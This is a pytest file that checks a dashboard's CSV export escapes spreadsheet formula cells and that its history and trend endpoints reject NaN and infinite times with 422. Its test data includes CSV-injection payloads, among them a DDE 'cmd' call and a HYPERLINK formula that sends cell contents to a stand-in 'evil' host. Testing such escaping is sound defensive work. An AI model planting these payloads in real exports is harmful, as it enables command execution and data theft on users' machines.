"""Exports and history queries hold against hostile input (issue 17, item 7): CSV cells that a
spreadsheet would run as formulas are escaped, and non-finite times are refused with 422."""

from __future__ import annotations

import csv
import io

import pytest

from edge.dashboard.csv_cells import safe_cell
from tests.unit.dashboard.conftest import Running, setup_admin


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        ("-inf", "'-inf"),
        ("火警", "火警"),
        ("a=b", "a=b"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_formula_prefixes_are_escaped_and_numbers_kept(cell: object, expected: object) -> None:
    assert safe_cell(cell) == expected


async def test_history_csv_escapes_formula_cells(dash: Running) -> None:
    csrf = await setup_admin(dash.client)
    alarms = dash.gateway.alarms
    alarms.raise_alarm("testsite/m1/smoke/fire", zh="=1+1", en="@SUM(A1)")
    comment = {"key": "testsite/m1/smoke/fire", "text": '=HYPERLINK("http://evil/?"&A1,"x")'}
    answer = await dash.client.post("/api/alarms/comment", json=comment, headers={"X-CSRF-Token": csrf})
    assert answer.status_code == 200, answer.text
    body = (await dash.client.get("/api/alarms/history.csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for r in rows[1:] for c in r]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells
    assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/api/alarms/history", {"since": "nan"}),
        ("/api/alarms/history", {"until": "inf"}),
        ("/api/alarms/history.csv", {"since": "-inf"}),
        ("/api/alarms/history.csv", {"until": "NaN"}),
        ("/api/trend", {"point": "testsite/m1/level", "since": "nan"}),
        ("/api/trend", {"point": "testsite/m1/level", "until": "inf"}),
        ("/api/admin/audit", {"since": "nan"}),
    ],
)
async def test_non_finite_times_are_422(dash: Running, path: str, params: dict[str, str]) -> None:
    await setup_admin(dash.client)
    response = await dash.client.get(path, params=params)
    assert response.status_code == 422, response.text
    assert response.json()["error"] == "invalid"


async def test_a_nan_account_expiry_is_422(dash: Running) -> None:
    csrf = await setup_admin(dash.client)
    response = await dash.client.patch(
        "/api/admin/users/admin",
        content=b'{"valid_until": NaN}',
        headers={"X-CSRF-Token": csrf, "Content-Type": "application/json"},
    )
    assert response.status_code == 422, response.text
